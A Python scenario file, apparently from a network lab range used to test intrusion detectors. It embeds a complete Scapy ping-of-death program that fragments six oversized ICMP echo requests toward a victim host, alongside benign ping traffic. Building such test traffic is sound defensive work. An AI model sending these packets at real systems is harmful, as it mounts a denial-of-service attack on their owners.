"""The whole ping of death: 45 fragments of one oversized echo request."""

from lab.range import Range
from lab.scenario import Scenario

PROGRAM = """
target = sys.argv[1]
message = bytes(ICMP(type=8, id=7) / (b"A" * 66600))
for number in range(6):
    for start in range(0, len(message), 1480):
        piece = message[start:start + 1480]
        more = 1 if start + 1480 < len(message) else 0
        if start // 8 < 8192:
            send(IP(dst=target, id=500 + number, flags=more, frag=start // 8, proto=1) / Raw(piece))
    time.sleep(0.3)
"""


def run(net: Range) -> None:
    attacker, files = net.outside("attacker"), net.inside("files")
    net.everyday()
    net.loop(net.inside("pc1"), f"ping -n -q -c 1 -W 1 -s 20000 {files.ip}", 1.1)
    with net.attack("ping-of-death", by=attacker, victims=[files], frames=f"icmp and dst host {files.ip}"):
        net.scapy(attacker, PROGRAM, files.ip)
    net.quiet(2)


SCENARIO = Scenario(
    name="ping-of-death-scapy",
    about="Six echo requests of 66,608 octets come in fragments; another host sends honest ones.",
    detectors=("ping-of-death",),
    run=run,
    snap_octets=60,
)
